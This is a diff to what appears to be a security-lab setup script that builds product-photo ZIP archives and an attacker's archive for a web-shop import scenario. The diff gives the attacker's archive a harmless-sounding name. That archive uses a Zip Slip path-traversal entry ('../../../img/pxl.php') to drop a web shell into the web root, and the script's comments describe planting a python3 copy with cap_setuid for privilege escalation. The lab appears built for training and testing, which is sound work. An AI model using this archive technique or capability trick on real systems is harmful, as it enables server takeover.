@@ -8,7 +8,7 @@
 # shopimp_reset undoes what these scenarios change elsewhere:
 #   shopimp_install        the import page over the freshly reset web root
 #   shopimp_plant_cap      the admin's leftover: a copy of python3 with cap_setuid+ep
-#   shopimp_zips DIR N     photo ZIPs (routine-1..N.zip) + the attacker's (zipslip.zip)
+#   shopimp_zips DIR N     photo ZIPs (photos-w49-1..N.zip) + the attacker's (catalog-update.zip)
 #   shopimp_reset          capability copy, motd script, temp files, alice's account back
 
 SHOPIMP=$LAB_DIR/shopimp
@@ -38,7 +38,7 @@ def png(rgb, w=160, h=120):
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
 items = ["mug-blue", "mug-red", "tee-green", "tee-black", "cap-grey", "bag-tote", "sock-pair", "pin-set"]
 for i in range(1, n + 1):
-    with zipfile.ZipFile("%s/routine-%d.zip" % (d, i), "w", zipfile.ZIP_DEFLATED) as z:
+    with zipfile.ZipFile("%s/photos-w49-%d.zip" % (d, i), "w", zipfile.ZIP_DEFLATED) as z:
         rows = ["sku,name,price,photo"]
         for k in range(2 + i % 3):
             it = items[(i + k) % len(items)]
@@ -47,7 +47,7 @@ for i in range(1, n + 1):
         z.writestr("products.csv", "\n".join(rows) + "\n")
 # the attacker's archive: a believable photo + CSV, and a member whose name
 # climbs out of catalog/incoming/<batch>/ into the web root's img/
-with zipfile.ZipFile("%s/zipslip.zip" % d, "w", zipfile.ZIP_DEFLATED) as z:
+with zipfile.ZipFile("%s/catalog-update.zip" % d, "w", zipfile.ZIP_DEFLATED) as z:
     z.writestr("products.csv", "sku,name,price,photo\nTEE-NAVY-1,tee navy,14.90,photos/tee-navy-1.png\n")
     z.writestr("photos/tee-navy-1.png", png((20, 30, 90)))
     z.writestr("../../../img/pxl.php", shell)
